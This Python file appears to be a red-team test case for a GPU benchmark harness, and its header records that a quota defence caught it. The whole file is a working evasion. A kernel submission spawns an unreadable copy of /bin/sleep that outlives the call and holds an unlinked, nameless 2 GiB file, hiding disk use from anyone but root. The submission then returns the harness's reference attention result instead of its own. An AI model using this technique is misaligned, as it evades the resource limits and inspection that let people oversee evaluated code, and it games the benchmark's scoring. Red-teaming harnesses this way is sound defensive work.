"""Has a program that may only be executed hold nameless files, so that none but root may list them.

---
status: [OVER_QUOTA]
seen: 'red team of this harness, as an ordinary user: 448 MiB under a limit of 0.1 GiB'
defence: quota
"""

import os
import time

from right_answer import attention

CACHE = os.environ.get("ATTNBOARD_CACHE", "")
SIZE = 2 << 30  # more than an entrant may keep
started = []


def copy_of_sleep():
    """Made without the right to be read: who runs it is not dumpable."""
    path = os.path.join(CACHE, "sleep")
    file = os.open(path, os.O_CREAT | os.O_WRONLY, 0o111)
    with open("/bin/sleep", "rb") as sleep:
        os.write(file, sleep.read())
    os.close(file)
    return path


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    if not started:
        program, kept = copy_of_sleep(), os.path.join(CACHE, "kept")
        file = os.open(kept, os.O_CREAT | os.O_RDWR, 0o600)
        os.set_inheritable(file, True)
        started.append(os.posix_spawn(program, [program, "9"], {}))
        os.unlink(kept)
        time.sleep(0.2)
        os.posix_fallocate(file, 0, SIZE)
        os.close(file)
        time.sleep(1)
    return attention(q, k, v, causal, sm_scale)
